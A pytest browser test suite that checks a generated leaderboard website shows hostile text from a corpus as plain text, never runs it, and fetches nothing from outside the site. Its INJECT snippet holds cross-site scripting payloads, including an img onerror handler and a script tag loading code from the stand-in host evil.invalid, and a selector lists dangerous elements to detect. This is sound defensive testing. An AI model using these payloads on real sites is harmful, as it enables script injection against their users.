"""Texts of strangers in every field of a board: shown as text, never run, and nothing is fetched for them."""

import json
from pathlib import Path

import pytest
from make_board import Ellipsoids, make_board, make_verifications
from site_browser import (
    PATIENCE,
    By,
    Select,
    WebDriverWait,
    complaints,
    fetched,
    go,
    kinds,
    needs_browser,
    small_site,
)

from leaderboard.site import build_site

pytestmark = needs_browser
CORPUS = json.loads(Path(__file__).with_name("site_corpus.json").read_text("utf-8"))
TOUCH_ALL = """for (const e of document.querySelectorAll("a, button, td, input")) {
  e.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
  e.focus();
}"""
STRANGE = """const tags = "iframe, object, base, style, math, form, body script, [onerror], [onload], [onmouseover]";
return document.querySelectorAll(`${tags}, a[href^="javascript" i], img[src^=http]`).length;"""
INJECT = """const script = (name, value) =>
  document.body.append(Object.assign(document.createElement("script"), { [name]: value }));
const tries = [
  () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.pwned=1'>"),
  () => script("textContent", "window.pwned=1"),
  () => script("src", "https://evil.invalid/x.js"),
  () => setTimeout("window.pwned=1"),
];
return tries.map((each) => { try { each(); return "done"; } catch (error) { return error.name; } });"""


@pytest.mark.parametrize("start", range(0, len(CORPUS), 6))
def test_strangers_texts_are_shown_and_never_run(browser, tmp_path, start):
    hostile = " ".join(CORPUS[start : start + 6])
    board = make_board(7, 1, cases=7, hostile=hostile)
    site = tmp_path / "site"
    build_site(
        board, site, cases=Ellipsoids(2, hostile), verifications=make_verifications(board, hostile),
        export=lambda table: {"csv": table.title},
    )  # fmt: skip
    complaints(browser), fetched(browser)
    for address in kinds(site):
        go(browser, f"{site.as_uri()}/{address}")
        if address.startswith("tasks/"):
            Select(browser.find_element(By.ID, "category")).select_by_index(2)
            WebDriverWait(browser, PATIENCE).until(lambda d: d.find_element(By.ID, "group-note").is_displayed())
        browser.execute_script(TOUCH_ALL)
        browser.execute_async_script("setTimeout(arguments[0], 100)")
        assert browser.execute_script("return window.pwned ?? null") is None, address
        assert browser.execute_script(STRANGE) == 0, address
        assert complaints(browser) == [], address
        assert all(url.startswith(site.as_uri()) for url in fetched(browser)), address


def test_what_is_injected_later_does_not_run_either(browser, tmp_path):
    site = small_site(tmp_path / "site")
    go(browser, f"{site.as_uri()}/index.html")
    assert browser.execute_script(INJECT) == ["TypeError"] * 4
    browser.execute_async_script("setTimeout(arguments[0], 200)")
    assert browser.execute_script("return window.pwned ?? null") is None
    complaints(browser)
